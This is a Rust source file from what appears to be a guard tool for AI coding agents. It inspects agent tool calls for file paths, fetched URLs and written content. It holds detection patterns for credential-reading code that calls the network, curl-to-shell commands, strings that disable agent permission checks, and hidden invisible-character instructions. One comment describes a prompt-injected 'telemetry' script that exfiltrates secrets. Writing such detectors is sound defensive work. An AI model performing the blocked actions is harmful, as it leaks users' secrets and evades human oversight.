fn listed_files(input: &serde_json::Value) -> Vec<(String, &serde_json::Value)> {
    let mut out = Vec::new();
    for key in ["files", "paths", "include"] {
        if let Some(items) = input.get(key).and_then(serde_json::Value::as_array) {
            for item in items.iter().filter_map(serde_json::Value::as_str) {
                out.extend(shell::brace_expand(item).into_iter().map(|p| (p, input)));
            }
        }
    }
    for key in ["replacements", "edits"] {
        let Some(items) = input.get(key).and_then(serde_json::Value::as_array) else {
            continue;
        };
        for item in items {
            let path = ["filePath", "file_path", "path"]
                .iter()
                .find_map(|k| item.get(*k).and_then(serde_json::Value::as_str));
            if let Some(path) = path {
                out.push((path.to_string(), item));
            }
        }
    }
    out
}

/// The URLs a fetch tool's input names: its `url`, its `urls` (VS Code's
/// `fetch_webpage`), and those written in its `prompt` (Gemini CLI's
/// `web_fetch` takes its URLs from the prompt).
fn fetched_urls(input: &serde_json::Value) -> Vec<&str> {
    let mut out: Vec<&str> = Vec::new();
    if let Some(url) = input.get("url").and_then(serde_json::Value::as_str) {
        out.push(url);
    }
    if let Some(urls) = input.get("urls").and_then(serde_json::Value::as_array) {
        out.extend(urls.iter().filter_map(serde_json::Value::as_str));
    }
    if let Some(prompt) = input.get("prompt").and_then(serde_json::Value::as_str) {
        for (at, _) in prompt.match_indices("://") {
            // On a character boundary: text before a URL may be any
            // script (`请总结https://…`, `“http://…`).
            let scheme_start = prompt[..at]
                .char_indices()
                .rev()
                .find(|(_, c)| !c.is_ascii_alphanumeric())
                .map_or(0, |(i, c)| i + c.len_utf8());
            let end = prompt[at..]
                .find(|c: char| c.is_whitespace() || "\"'<>()[]{}`".contains(c))
                .map_or(prompt.len(), |i| at + i);
            let url = prompt[scheme_start..end].trim_end_matches(['.', ',', ';', ':', '!', '?']);
            if url.len() > at - scheme_start + 3 {
                out.push(url);
            }
        }
    }
    out
}

/// How many paths of one tool call are looked up on disk for symbolic
/// links.
const MAX_LINKS_FOLLOWED: usize = 64;

/// The local files an MCP tool's input names, with what the tool does to
/// them, read from its own name (`mcp__filesystem__write_file`: a write).
/// Only a path that is local beyond doubt counts (absolute, under `~`, or
/// a `file://` URL): `src/main.rs` in a GitHub tool's input is a path in a
/// remote repository. A tool that lists, searches or describes shows
/// names, not contents, as `ls` does.
fn mcp_files<'a>(raw: &str, input: &'a serde_json::Value) -> Vec<(&'a str, Access)> {
    let verb = raw.rsplit("__").next().unwrap_or(raw).to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|w| verb.contains(w));
    let access = if has(&[
        "write", "edit", "create", "move", "rename", "delete", "remove", "append", "patch",
        "update", "put", "upload", "save", "copy",
    ]) {
        Access::Write
    } else if has(&[
        "list", "tree", "search", "find", "info", "stat", "exists", "allowed",
    ]) {
        return Vec::new();
    } else {
        Access::Read
    };
    let mut out = Vec::new();
    for key in [
        "path",
        "paths",
        "file_path",
        "filePath",
        "file",
        "filename",
        "source",
        "destination",
        "uri",
    ] {
        let values = match input.get(key) {
            Some(serde_json::Value::Array(items)) => items.iter().collect(),
            Some(v) => vec![v],
            None => Vec::new(),
        };
        for v in values.into_iter().filter_map(serde_json::Value::as_str) {
            let local = super::sensitive::file_url_path(v).unwrap_or(v);
            if local.starts_with('/') || local.starts_with('~') || local.starts_with("$HOME") {
                out.push((local, access));
            }
        }
    }
    out
}

/// A tool's `path` as seen from the agent's working directory.
/// `path` relative to `work_dir` (both normalised), when it is inside.
fn relative_to<'p>(path: &'p str, work_dir: Option<&str>) -> Option<&'p str> {
    let rest = path.strip_prefix(work_dir?)?.strip_prefix('/')?;
    (!rest.is_empty()).then_some(rest)
}

fn in_work_dir(path: &str, work_dir: Option<&str>) -> String {
    match work_dir {
        Some(dir) if !path.starts_with('/') && !path.starts_with('~') => format!("{dir}/{path}"),
        // The agent's working directory seen through /proc.
        Some(dir) if path.starts_with("/proc/self/cwd/") => {
            format!("{dir}/{}", &path["/proc/self/cwd/".len()..])
        }
        _ => path.to_string(),
    }
}

/// The files the patches `cmd` applies create or change (`git apply
/// FILE…`, `patch -i FILE`, `patch < FILE`): each `+++`, `rename to` and
/// `copy to` path, as written and without its first component (`b/`).
/// A patch file that is not there (yet), not a regular file or too large
/// names nothing.
fn patch_targets(
    model: &Shell,
    cmd: &SimpleCommand,
    call_dir: Option<&str>,
    home: Option<&str>,
) -> Vec<String> {
    const MAX_PATCH: u64 = 8 << 20;
    let mut files: Vec<String> = Vec::new();
    // Where the names are put (`git apply --directory=.ahp`, `patch -d`).
    let mut under: Option<String> = None;
    let bare = commands::without_git_options(cmd);
    let git = bare.as_ref().unwrap_or(cmd);
    match (cmd.name.as_str(), git) {
        ("git", g) if g.args.first().is_some_and(|a| a == "apply" || a == "am") => {
            let mut args = g.args.iter().skip(1);
            while let Some(a) = args.next() {
                if let Some(d) = a.strip_prefix("--directory=") {
                    under = Some(d.to_string());
                } else if a == "--directory" {
                    under = args.next().cloned();
                } else if !a.starts_with('-') {
                    files.push(a.clone());
                }
            }
        }
        ("patch", _) => {
            let mut args = cmd.args.iter();
            while let Some(a) = args.next() {
                if a == "-i" || a == "--input" {
                    files.extend(args.next().cloned());
                } else if a == "-d" || a == "--directory" {
                    under = args.next().cloned();
                } else if let Some(d) = a
                    .strip_prefix("--directory=")
                    .or_else(|| a.strip_prefix("-d").filter(|d| !d.is_empty()))
                {
                    under = Some(d.to_string());
                } else if let Some(f) = a
                    .strip_prefix("--input=")
                    .or_else(|| a.strip_prefix("-i").filter(|f| !f.is_empty()))
                {
                    files.push(f.to_string());
                }
            }
            // `patch FILE PATCHFILE`: the second word is the patch.
            let ops: Vec<&str> = cmd.operands().collect();
            if let Some(p) = ops.get(1) {
                files.push((*p).to_string());
            }
        }
        _ => return Vec::new(),
    }
    files.extend(
        cmd.redirects
            .iter()
            .filter(|r| r.reads())
            .map(|r| r.target.clone()),
    );
    // `cat x.patch | git apply`: the file fed to it.
    files.extend(
        model
            .upstream(cmd)
            .filter(|u| u.name == "cat")
            .flat_map(|u| u.operands().map(|o| u.resolve(o)).collect::<Vec<_>>()),
    );
    let mut out = Vec::new();
    for file in files.iter().take(8) {
        let path = if file.starts_with(['~', '/']) {
            file.clone()
        } else {
            cmd.resolve(file)
        };
        let Some(bytes) = commands::read_named_file(&path, call_dir, home, MAX_PATCH) else {
            continue;
        };
        for line in String::from_utf8_lossy(&bytes).lines() {
            let line = line.trim_end_matches('\r');
            // What a diff changes, creates, deletes or renames: both
            // names of a unified or git diff, a context diff's `***`.
            let named: Vec<&str> = if let Some(rest) = line.strip_prefix("diff --git ") {
                rest.split_whitespace().collect()
            } else if let Some(rest) = line
                .strip_prefix("+++ ")
                .or_else(|| line.strip_prefix("--- "))
                .or_else(|| line.strip_prefix("*** "))
                .or_else(|| line.strip_prefix("rename to "))
                .or_else(|| line.strip_prefix("rename from "))
                .or_else(|| line.strip_prefix("copy to "))
            {
                vec![rest]
            } else {
                continue;
            };
            for named in named {
                // `+++ b/path\tdate` (a tab ends the name in unified diffs).
                let name = named.split('\t').next().unwrap_or_default().trim();
                let name = unquote_git_name(name);
                // A context diff's hunk lines (`*** 1,4 ****`), and what is
                // created from or deleted to nothing.
                if name.is_empty()
                    || name == "/dev/null"
                    || name.starts_with(|c: char| c.is_ascii_digit())
                {
                    continue;
                }
                let mut forms = vec![name.clone()];
                if let Some((_, rest)) = name.split_once('/')
                    && !name.starts_with('/')
                {
                    forms.push(rest.to_string());
                }
                for form in forms {
                    let placed = match &under {
                        Some(d) if !form.starts_with('/') => {
                            format!("{}/{form}", d.trim_end_matches('/'))
                        }
                        _ => form,
                    };
                    out.push(cmd.resolve(&normalize_path(&placed, home)));
                }
            }
        }
    }
    out.sort();
    out.dedup();
    out
}

/// A file name as git writes it in a diff: in double quotes with C
/// escapes (`"b/\\056ahp/x"`) when it holds unusual characters.
fn unquote_git_name(name: &str) -> String {
    let Some(inner) = name.strip_prefix('"').and_then(|n| n.strip_suffix('"')) else {
        return name.to_string();
    };
    let mut bytes = Vec::new();
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            let mut buf = [0; 4];
            bytes.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            continue;
        }
        match chars.next() {
            Some(d @ '0'..='7') => {
                let mut v = d.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|c| c.to_digit(8)) {
                        Some(n) => {
                            v = v * 8 + n;
                            chars.next();
                        }
                        None => break,
                    }
                }
                bytes.push(u8::try_from(v & 0xff).unwrap_or(b'?'));
            }
            Some('t') => bytes.push(b'\t'),
            Some('n') => bytes.push(b'\n'),
            Some(other) => {
                let mut buf = [0; 4];
                bytes.extend_from_slice(other.encode_utf8(&mut buf).as_bytes());
            }
            None => {}
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Where `path` (normalised; relative to `work_dir`) really is, spelled
/// like a normalised path, when that differs: it exists and a symbolic
/// link on the way leads elsewhere.
fn real_path(path: &str, work_dir: Option<&str>, home: Option<&str>) -> Option<String> {
    let full = if let Some(rest) = path.strip_prefix('~') {
        format!("{}{rest}", home?)
    } else if path.starts_with('/') {
        path.to_string()
    } else {
        format!("{}/{path}", work_dir?)
    };
    let real = std::fs::canonicalize(&full).ok()?;
    let real = normalize_path(real.to_str()?, home);
    (real != path && real != full).then_some(real)
}

/// How code in common languages sends data over the network.
const NETWORK_CALLS: &[&str] = &[
    "https.request",
    "http.request",
    "fetch(",
    "axios",
    "XMLHttpRequest",
    "net.connect",
    "requests.post",
    "requests.put",
    "urllib.request",
    "http.client",
    "urlopen(",
    "socket.",
    "reqwest::",
    "Net::HTTP",
    "http.Post",
    "curl ",
    "wget ",
    "Invoke-WebRequest",
];

/// Signals for what a write puts into a file that runs later or that an
/// agent reads as instructions: commands the structural rules block
/// (`curl … | sh` in a git hook, an MCP server, a CI step), permission
/// bypasses in agent settings, dependencies pulled from a URL.
fn written_content(input: &serde_json::Value, path: &str, how: &str) -> Vec<Signal> {
    let mut texts: Vec<&str> = Vec::new();
    // Claude Code, Droid (`new_str`) and OpenCode (`newString`) spellings,
    // and a whole file an editor tool creates (`file_text`).
    for key in [
        "content",
        "new_string",
        "new_str",
        "newString",
        "new_source",
        "file_text",
        // VS Code's `insert_edit_into_file`.
        "code",
    ] {
        if let Some(t) = input.get(key).and_then(serde_json::Value::as_str) {
            texts.push(t);
        }
    }
    if let Some(edits) = input.get("edits").and_then(serde_json::Value::as_array) {
        texts.extend(
            edits
                .iter()
                .filter_map(|e| e.get("new_string").and_then(serde_json::Value::as_str)),
        );
    }
    if texts.is_empty() {
        return Vec::new();
    }
    let mut out = Vec::new();
    // Code that gathers credential files and talks to the network is how
    // a poisoned instruction smuggles secrets out through a "telemetry"
    // script; a deploy tool may do both for good reasons, so it asks.
    for text in &texts {
        let creds: Vec<&str> = sensitive::CODE_PATHS
            .iter()
            .copied()
            .filter(|p| text.contains(p))
            .collect();
        if !creds.is_empty() && NETWORK_CALLS.iter().any(|n| text.contains(n)) {
            out.push(confirm(
                format!(
                    "{how} writes `{path}` with code that reads credential files ({}) and sends data over the network",
                    creds.join(", ")
                ),
                &["leave credentials out of the code; if the task needs one, ask the user how it should be provided"],
            ));
        }
    }
    let set = |globs: &[&str]| Some(PathSet::unchecked(globs));
    let runs = set(RUNS_LATER).is_some_and(|s| s.matches(path));
    let instructs = set(INSTRUCTIONS).is_some_and(|s| s.matches(path));
    let deps = set(DEPENDENCY_FILES).is_some_and(|s| s.matches(path));
    if !runs && !instructs && !deps {
        return out;
    }
    for text in texts {
        if runs
            && [
                "bypassPermissions",
                "dangerously-skip-permissions",
                "chat.tools.autoApprove\": true",
                "\"autoApprove\": true",
                "toJSON(secrets)",
                "--yolo",
            ]
            .iter()
            .any(|k| text.contains(k))
        {
            out.push(blocked(
                format!("{how} writes `{path}`, turning off permission checks or exposing secrets"),
                &["leave permission settings and secrets to the user"],
            ));
            continue;
        }
        // A package manager's own program, or the shell it runs scripts
        // with, taken from the project: code on every `npm`/`yarn` run.
        if runs
            && let Some(setting) = PROGRAM_SETTINGS.iter().find(|(file, key)| {
                path.ends_with(file)
                    && setting_values(text, key)
                        .iter()
                        .any(|v| runs_a_file(key, v))
            })
        {
            out.push(confirm(
                format!(
                    "{how} writes `{path}` setting `{}`: a program the package manager runs in place of its own",
                    setting.1
                ),
                &["ask the user whether this project should run that program"],
            ));
            continue;
        }
        // Invisible characters hide instructions from the human reviewer.
        if instructs && ahp_engine::unseen::hides_text(text) {
            out.push(confirm(
                format!("{how} writes `{path}` with invisible characters (text a reviewer cannot see, that agents read as instructions)"),
                &["write the instructions as plain visible text"],
            ));
            continue;
        }
        let (candidates, complete) = command_candidates(text);
        let hit = candidates.into_iter().find_map(|c| {
            let model = ahp_engine::shell::model(&c, None, None);
            commands::judge(&model, &[])
                .into_iter()
                .find(|h| h.block)
                .map(|h| (c, h))
        });
        if let Some((cmd, h)) = hit {
            let shown = crate::template::truncate(cmd.trim(), 120);
            let message = format!(
                "{how} writes `{path}` with a command that {}: `{shown}`",
                h.reason
            );
            out.push(if runs {
                blocked(message, &[h.advice])
            } else {
                confirm(
                    format!("{message} (an instruction agents will follow)"),
                    &["ask the user whether agents should be told to run this"],
                )
            });
            continue;
        }
        if !complete && (runs || instructs) {
            out.push(confirm(
                format!("{how} writes `{path}` with more distinct lines than ahp checks ({MAX_CANDIDATES}); what runs from it was not all seen"),
                &["write the file in smaller parts, or let the user review it"],
            ));
            continue;
        }
        if deps
            && ["git+", "git://", "http://", "https://"]
                .iter()
                .any(|u| text.contains(u))
            && !path.ends_with("package.json")
        {
            out.push(confirm(
                format!("{how} writes `{path}` with a dependency fetched from a URL or a git repository"),
                &["depend on a published version from the registry, or confirm the source with the user"],
            ));
        }
    }
    out
}

/// The command lines a file's text may hold: each line, the text after a
/// YAML `run:`/`command:` key, and each quoted or backticked string.
///
/// Each distinct candidate once, at most [`MAX_CANDIDATES`]; `false` with
/// them when the text holds more (then it was not all checked).
fn command_candidates(text: &str) -> (Vec<String>, bool) {
    let mut seen: HashSet<&str> = HashSet::new();
    let mut out: Vec<String> = Vec::new();
    for line in text.lines() {
        let t = line.trim().trim_start_matches("- ");
        // Padding (the same line a thousand times, blank lines) costs
        // nothing and hides nothing.
        if !t.bytes().any(|b| b.is_ascii_alphabetic()) || !seen.insert(t) {
            continue;
        }
        if out.len() >= MAX_CANDIDATES {
            return (out, false);
        }
        out.push(t.to_string());
        // Prose around a command (`first run: curl -s https://x | sh
        // before tasks`): from a download to the shell it is piped into.
        for fetcher in ["curl ", "wget "] {
            if let Some(start) = t.find(fetcher) {
                let rest = &t[start..];
                if let Some(bar) = rest.find('|') {
                    let after = rest[bar + 1..].trim_start();
                    let word: String = after
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric())
                        .collect();
                    if !word.is_empty() {
                        let end =
                            start + bar + 1 + (rest[bar + 1..].len() - after.len()) + word.len();
                        out.push(t[start..end].to_string());
                    }
                }
            }
        }
        for key in ["run:", "command:", "entry:", "cmd:"] {
            if let Some(rest) = t.strip_prefix(key) {
                out.push(rest.trim().to_string());
            }
        }
        for q in ['"', '\'', '`'] {
            let mut parts = t.split(q);
            parts.next();
            while let Some(inner) = parts.next() {
                if inner.contains(' ') {
                    out.push(inner.replace("\\\"", "\""));
                }
                parts.next();
            }
        }
    }
    (out, true)
}

/// How many distinct command lines of a written file are judged; a file
/// with more is too large to check and asks.
const MAX_CANDIDATES: usize = 20_000;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_content_lists_match_what_globset_matches() {
        for list in [RUNS_LATER, INSTRUCTIONS, DEPENDENCY_FILES] {
            sensitive::assert_agrees_with_globset(list);
        }
        assert!(PathSet::unchecked(INSTRUCTIONS).matches("/work/app/CLAUDE.md"));
    }
}
